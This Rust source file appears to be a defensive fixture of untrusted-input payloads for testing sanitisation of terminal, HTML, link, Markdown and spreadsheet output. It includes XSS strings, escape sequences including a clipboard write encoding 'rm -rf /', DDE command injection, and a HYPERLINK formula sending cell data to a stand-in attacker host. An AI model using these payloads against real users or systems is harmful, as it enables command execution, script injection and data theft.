//! What a stranger may put into any field of a message, written by us: payloads against terminals,
//! browsers, Markdown and spreadsheets. No check stands here.

/// Against terminals: escape sequences, C1 controls, line tricks, what reorders or hides text.
pub const TERMINAL: &[&str] = &[
    "\u{1b}[2J\u{1b}[1;1Hgone",
    "\u{1b}]0;owned\u{7}title",
    "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
    "\u{1b}P+q544e\u{1b}\\dcs",
    "\u{1b}_apc\u{1b}\\\u{1b}^pm\u{1b}\\",
    "\u{1b}(0lqk\u{1b}c",
    "\u{9b}31mcsi of one byte\u{9b}0m",
    "\u{9d}0;osc of one byte\u{9c}",
    "\u{90}dcs\u{9c}\u{85}next line",
    "bell\u{7}back\u{8}\u{8}\u{8}\u{8}vt\u{b}ff\u{c}del\u{7f}",
    "over\rwritten",
    "two\r\nlines\nand three",
    "tab\tted",
    "shift\u{e}out\u{f}in",
    "abc\u{202e}fdp.exe",
    "\u{202a}embedded\u{202b}\u{202d}over\u{202c}",
    "\u{2066}isolated\u{2067}\u{2068}text\u{2069}",
    "\u{61c}arabic\u{200e}left\u{200f}right",
    "zero\u{200b}width\u{2060}joined\u{feff}mark",
    "line\u{2028}paragraph\u{2029}separators",
    "old\u{206a}format\u{206f}controls\u{fff9}a\u{fffa}b\u{fffb}",
    "tag\u{e0041}\u{e007f}letters",
    "soft\u{ad}hyphen\u{180e}vowel\u{3164}filler\u{ffa0}half\u{115f}jamo",
];

/// Against browsers and mail readers.
pub const HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "</td></tr></table><iframe src=//evil.example>",
    "</title></style><script src=//evil.example></script>",
    "<!-- <a href=\"javascript:alert(1)\">x</a> -->",
    "<![CDATA[<x>]]><?xml version=\"1.0\"?>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example><form action=//evil.example><input>",
    "&lt;script&gt;&#60;b&#62;&amp;lt;",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "\u{ff1c}script\u{ff1e}",
];

/// Addresses that must not become links.
pub const LINKS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://a.example/\" onclick=\"alert(1)",
    "https://a.example/'><script>alert(1)</script>",
    "https://a.example/\u{202e}moc.knab",
    "https://a.example/ javascript:alert(1)",
    "https://a.example/)](javascript:alert(1)",
    "http://a.example|https://b.example",
    "https://user:pass@a.example@evil.example/",
];

/// Against Markdown readers.
pub const MARKDOWN: &[&str] = &[
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/p.png)",
    "[a][b] [b]: https://evil.example",
    "<https://evil.example>",
    "a | b | c",
    "a \\| b \\\\| c",
    "||||||",
    "`code` ``` fence ```",
    "**bold** __bold__ *i* _i_ ~~gone~~",
    "# head\n## head",
    "- item\n1. item\n> quote",
    "---\n===\n***",
    "\\[x\\](y) \\`z\\`",
    "&#91;x&#93;&#40;y&#41;",
    "$\\href{javascript:alert(1)}{x}$",
    "<details><summary>x</summary></details>",
    "[^1] [^1]: note",
    "|\n| --- |\n| x |",
];

/// Against spreadsheets.
pub const SHEET: &[&str] = &[
    "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{0}=1+1",
    "\"=1+1\"",
    "\",=1+1,\"",
    "'=1+1",
    "''=1+1",
    "12345678901234567890",
    "1e400",
    "%0A=1+1",
];

/// All of them.
pub fn all() -> impl Iterator<Item = &'static str> {
    [TERMINAL, HTML, LINKS, MARKDOWN, SHEET]
        .into_iter()
        .flatten()
        .copied()
}
